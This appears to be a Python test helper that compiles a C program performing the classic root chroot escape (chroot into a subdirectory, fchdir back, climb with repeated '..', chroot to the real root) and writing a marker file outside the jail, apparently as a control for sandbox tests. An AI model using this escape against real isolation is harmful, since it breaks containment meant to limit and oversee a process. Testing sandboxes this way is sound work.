"""The way out of a chroot that root has, as a program: it writes into the file that it is given, outside."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

ESCAPE_C = r"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    mkdir("/deeper", 0700);
    int here = open("/", O_RDONLY);
    if (chroot("/deeper")) { puts("no chroot"); return 1; }
    if (fchdir(here)) { puts("no fchdir"); return 1; }
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    if (chroot(".")) { puts("no way"); return 1; }
    int file = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file < 0) { puts("not there"); return 1; }
    if (write(file, "escaped", 7) != 7) return 1;
    puts("escaped");
    return 0;
}
"""


def compiled(folder: Path) -> Path:
    """Return the program, static: it needs nothing of the root that it runs in."""
    compiler = shutil.which("gcc")
    assert compiler, "the control needs a C compiler"
    (folder / "escape.c").write_text(ESCAPE_C)
    subprocess.run([compiler, "-static", "-o", str(folder / "escape"), str(folder / "escape.c")], check=True)
    return folder / "escape"
